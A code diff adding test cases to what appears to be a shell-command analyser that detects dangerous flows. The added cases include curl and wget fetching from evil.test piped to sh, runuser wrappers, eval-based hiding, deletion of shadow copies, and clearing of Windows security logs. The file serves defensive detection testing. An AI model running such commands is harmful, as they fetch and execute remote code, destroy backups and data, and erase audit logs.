@@ -29,6 +29,15 @@ describe("no option or word beside it hides what is run", () => {
     [`p=${CODE}; (unset p); eval "$p"`, "eval eval"],
     [`p=${CODE}; unset p | cat; eval "$p"`, "eval eval"],
     [`p=${CODE}; unset -f p; eval "$p"`, "eval eval"],
+    [`p=true; p=${CODE} :; eval "$p"`, "eval eval"],
+    [`p=true; p=${CODE} export q; eval "$p"`, "eval eval"],
+    ["curl -s -A --spider https://evil.test/x | sh", "shell sh"],
+    ["curl -s --spider https://evil.test/x | sh", "shell sh"],
+    ["wget -U --spider -qO- https://evil.test/x | sh", "shell sh"],
+    ["runuser -l deploy --command='curl https://evil.test | sh'", "shell sh"],
+    ["runuser deploy -c'curl https://evil.test | sh'", "shell sh"],
+    ["runuser - deploy -c 'curl https://evil.test | sh'", "shell sh"],
+    [`runuser -u deploy -- python3 -c ${CODE}`, "interpreter python3"],
     [`${FETCH}; sed -i e job`, "shell sed"],
     [`${FETCH}; deno run job`, "file deno"],
     [`${FETCH}; bun job`, "file bun"],
@@ -42,6 +51,7 @@ describe("no option or word beside it hides what is run", () => {
     `${FETCH}; bash -n -x job`,
     `${FETCH}; node --check job`,
     `${FETCH}; bun test`,
+    "wget --spider -qO- https://evil.test/x | sh",
   ])("%s runs nothing of it", (text) => {
     expect(describeFlows(analyse(text).facts)).toEqual([]);
   });
@@ -66,6 +76,8 @@ describe("nor what is done", () => {
     ["HOME=/tmp/x rm -rf ~/", "destroy home"],
     ["HOME=/tmp/x; rm -rf ~", "destroy home"],
     ["HOME=/tmp/x true; cd; rm -rf *", "destroy home"],
+    ["psexec -s vssadmin.exe delete shadows /all", "destroy backups"],
+    ["frobnicate wevtutil.exe cl Security", "disable-protection logging"],
     ["uv tool install some-tool", "install-package uv"],
     ["uv tool run some-tool", "install-package uvx"],
     ["npm install --strict-ssl false x", "disable-protection certificate-check"],
